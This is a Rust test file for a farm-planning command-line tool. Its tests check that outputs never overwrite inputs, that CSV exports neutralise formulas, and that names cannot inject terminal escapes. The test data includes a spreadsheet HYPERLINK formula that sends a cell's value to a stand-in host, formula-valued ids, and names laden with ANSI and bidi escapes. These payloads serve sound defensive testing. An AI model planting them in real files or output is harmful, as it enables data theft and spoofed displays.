//! No output over anything that is not its own: every output against every input.

use crate::bad_input::with_own_post;
use crate::desk::{Desk, samples};

/// Every output of every command: the words up to it, and the ending of its form.
const OUTPUTS: [(&str, &str); 29] = [
    ("survey brackenhope.tif --slope", "tif"),
    ("survey brackenhope.tif --drainage", "tif"),
    ("survey brackenhope.tif --shade", "png"),
    ("survey brackenhope.tif --contours", "geojson"),
    ("section farm.plan.geojson --line west --csv", "csv"),
    ("section farm.plan.geojson --line west --svg", "svg"),
    ("section farm.plan.geojson --line west --png", "png"),
    ("mend farm.plan.geojson --take 1 --out", "geojson"),
    ("power farm.plan.geojson --csv", "csv"),
    ("order farm.plan.geojson --csv", "csv"),
    ("order farm.plan.geojson --xlsx", "xlsx"),
    ("order farm.plan.geojson --prices prices.csv --out", "geojson"),
    ("round farm.plan.geojson --gpx", "gpx"),
    ("round farm.plan.geojson --sheet", "pdf"),
    ("round farm.plan.geojson --sheet", "svg"),
    ("reroute farm.plan.geojson --line west --out", "geojson"),
    ("log farm.plan.geojson --csv", "csv"),
    ("import farm.plan.geojson walk.gpx --out", "geojson"),
    ("import farm.plan.geojson --log rounds.csv --out", "geojson"),
    ("share farm.plan.geojson", "geojson"),
    ("share farm.plan.geojson", "gpx"),
    ("share farm.plan.geojson", "kml"),
    ("share farm.plan.geojson", "csv"),
    ("share farm.plan.geojson", "xlsx"),
    ("share farm.plan.geojson", "svg"),
    ("share farm.plan.geojson", "png"),
    ("share farm.plan.geojson", "pdf"),
    ("share farm.plan.geojson", "html"),
    ("share farm.plan.geojson --line west", "svg"),
];

/// What the plan and the commands read.
const INPUTS: [&str; 10] = [
    "farm.plan.geojson",
    "farm.plan.geojson.journal",
    "brackenhope.tif",
    "wide.asc",
    "wide.prj",
    "air.png",
    "air.pgw",
    "walk.gpx",
    "rounds.csv",
    "prices.csv",
];

/// A plan with a journal, two grids and an air photo, and what came back from others.
fn farm() -> Desk {
    let desk = Desk::new();
    let plan = String::from_utf8(desk.read("brackenhope.plan.geojson")).expect("UTF-8");
    let two = "\"elevation\":[{\"file\":\"brackenhope.tif\"},{\"file\":\"wide.asc\"}],\"pictures\":[{\"file\":\"air.png\"}],";
    let farm = plan.replace("\"elevation\":[{\"file\":\"brackenhope.tif\"}],", two);
    assert_ne!(farm, plan);
    desk.write("farm.plan.geojson", farm);
    desk.write("walk.gpx", "<gpx><wpt lat=\"55.354\" lon=\"-3.463\"><name>Spring</name></wpt></gpx>");
    desk.write("rounds.csv", std::fs::read(samples().join("brackenhope-rounds.csv")).expect("part of the repository"));
    for name in ["farm.plan.geojson.journal", "wide.asc", "wide.prj", "air.png", "air.pgw", "prices.csv"] {
        desk.write(name, format!("what stands in {name}"));
    }
    desk
}

/// Whether a command reads an input at all: a survey reads its grid alone, a plan no file of others.
fn reads(words: &str, input: &str) -> bool {
    match input {
        "brackenhope.tif" => true,
        _ if words.starts_with("survey") => false,
        "walk.gpx" | "rounds.csv" | "prices.csv" => words.contains(input),
        _ => true,
    }
}

#[test]
fn no_output_is_written_over_an_input_nor_unasked_over_any_other_file() {
    let desk = farm();
    let before: Vec<(&str, Vec<u8>)> = INPUTS.iter().map(|name| (*name, desk.read(name))).collect();
    let refused = |words: &str, name: &str, says: &[&str]| {
        let ended = desk.run(words);
        assert_eq!((ended.status, ended.out.as_str()), (2, ""), "{words}: {ended:?}");
        assert!(ended.err.contains(name) && says.iter().any(|part| ended.err.contains(part)), "{words}: {}", ended.err);
    };
    for (words, form) in OUTPUTS {
        for input in INPUTS.iter().filter(|input| reads(words, input)) {
            // Under its own name, whose ending may be another form's.
            let own = ["this is the input itself", "this file is read for it", "found the ending"];
            refused(&format!("{words} {input} --replace"), input, &own);
            // Under a name with the right ending, which leads to it.
            let link = format!("link-to-{}.{form}", input.replace('.', "-"));
            #[cfg(unix)]
            if std::os::unix::fs::symlink(desk.path(input), desk.path(&link)).is_ok() {
                refused(&format!("{words} {link} --replace"), &link, &own[..2]);
                std::fs::remove_file(desk.path(&link)).expect("ours");
            }
            let _ = link;
        }
        let there = format!("there.{}", form.to_uppercase());
        desk.write(&there, "of somebody else");
        refused(&format!("{words} {there}"), &there, &["this file is there already, last changed"]);
        assert_eq!(desk.read(&there), b"of somebody else", "{words}");
        std::fs::remove_file(desk.path(&there)).expect("ours");
        let other = if form == "csv" { "new.gpx" } else { "new.csv" };
        let is_form = words.starts_with("share");
        if !is_form {
            refused(&format!("{words} {other}"), other, &["found the ending"]);
            refused(&format!("{words} new."), "new.", &["found no ending"]);
        }
    }
    for (name, bytes) in before {
        assert_eq!(desk.read(name), bytes, "{name}");
    }
}

#[test]
fn another_file_is_replaced_where_that_is_asked_for() {
    let desk = Desk::new();
    for (words, name) in [
        ("survey brackenhope.tif --slope", "s.TIFF"),
        ("order brackenhope.plan.geojson --csv", "o.CSV"),
        ("share brackenhope.plan.geojson", "map.geojson"),
        ("mend brackenhope.plan.geojson --take 1 --out", "m.json"),
    ] {
        desk.write(name, "of somebody else");
        assert_eq!(desk.run(&format!("{words} {name}")).status, 2, "{words}");
        let ended = desk.run(&format!("{words} {name} --replace"));
        assert_eq!(ended.status, 0, "{words}: {ended:?}");
        assert_ne!(desk.read(name), b"of somebody else", "{words}");
    }
}

#[test]
fn no_cell_of_a_table_is_a_formula_and_what_is_guarded_comes_back_as_it_was() {
    let desk = Desk::new();
    let evil = "=HYPERLINK(\"http://example.invalid/?q=\"&A2,\"here\")";
    let escaped = evil.replace('"', "&quot;").replace('&', "&amp;").replace("&amp;quot;", "&quot;");
    let gpx = format!("<gpx><wpt lat=\"55.354\" lon=\"-3.4631\"><name>branch</name><desc>{escaped}</desc></wpt></gpx>");
    desk.write("evil.gpx", gpx);
    assert_eq!(desk.run("import brackenhope.plan.geojson --log evil.gpx --out evil.plan.geojson").status, 0);
    let plan = String::from_utf8(desk.read("evil.plan.geojson")).expect("UTF-8");
    // A line and a post whose ids are formulas.
    let plan = with_own_post(&plan, "0.5").replace("\"chestnut\"", "\"=evil\"").replace("\"west\"", "\"=1+1\"");
    desk.write("evil.plan.geojson", plan);
    for (words, name) in [
        ("log evil.plan.geojson --csv", "log.csv"),
        ("section evil.plan.geojson --line =1+1 --csv", "section.csv"),
        ("power evil.plan.geojson --csv", "power.csv"),
        ("order evil.plan.geojson --csv", "order.csv"),
        ("share evil.plan.geojson", "shared.csv"),
    ] {
        let ended = desk.run(&format!("{words} {name}"));
        assert_eq!(ended.status, 0, "{words}: {ended:?}");
        let text = String::from_utf8(desk.read(name)).expect("UTF-8");
        assert!(text.contains("'="), "{words}: something is guarded");
        let cells = text.split(['\n', ',']).map(|cell| cell.trim_start_matches('"'));
        let risky: Vec<&str> = cells.filter(|cell| cell.starts_with(['=', '+', '@'])).collect();
        assert_eq!(risky, [""; 0], "{words}");
    }
    assert_eq!(desk.run("import brackenhope.plan.geojson --log log.csv --out again.plan.geojson").status, 0);
    let again: serde_json::Value = serde_json::from_slice(&desk.read("again.plan.geojson")).expect("JSON");
    let notes = again["features"].as_array().expect("a list").iter().filter_map(|one| one["properties"]["note"].as_str());
    assert!(notes.collect::<Vec<_>>().contains(&evil), "{again}");
}

#[test]
fn names_drive_neither_a_terminal_nor_another_program() {
    let desk = Desk::new();
    let plan = String::from_utf8(desk.read("brackenhope.plan.geojson")).expect("UTF-8");
    let name = "W\\u001b[31m\\u001b]0;pwned\\u0007\\u009b2J\\u202egpj\\nfake line";
    desk.write("esc.plan.geojson", plan.replace("West paddock", name));
    desk.write("esc.asc", "ncols 3\nnrows 3\nxllcorner 0\nyllcorner 0\ncellsize 1\n1 2 3\n4 5 6\n7 8 9\n");
    desk.write("esc.prj", "PROJCS[\"\u{1b}[2J\u{9b}31m\"]");
    for words in [
        "measure esc.plan.geojson",
        "measure esc.plan.geojson --json",
        "check esc.plan.geojson",
        "round esc.plan.geojson",
        "log esc.plan.geojson",
        "survey esc.asc",
        "measure no-\u{1b}[2J.plan.geojson",
    ] {
        let ended = desk.run(words);
        for text in [&ended.out, &ended.err] {
            let bad = text.chars().find(|sign| (sign.is_control() && *sign != '\n') || *sign == '\u{202e}');
            assert_eq!(bad, None, "{words}: {text}");
            assert!(!text.lines().any(|line| line.starts_with("fake line")), "{words}: {text}");
        }
    }
    assert!(desk.run("measure esc.plan.geojson").out.contains("W\\u001b[31m"), "it is shown as what it is");
    assert_eq!(desk.run("share esc.plan.geojson out.geojson").status, 0);
    let shared: serde_json::Value = serde_json::from_slice(&desk.read("out.geojson")).expect("JSON");
    assert!(
        shared["features"][0]["properties"]["name"].as_str().is_some_and(|name| name == "W[31m]0;pwned2Jgpj\nfake line"),
        "{shared}"
    );
}
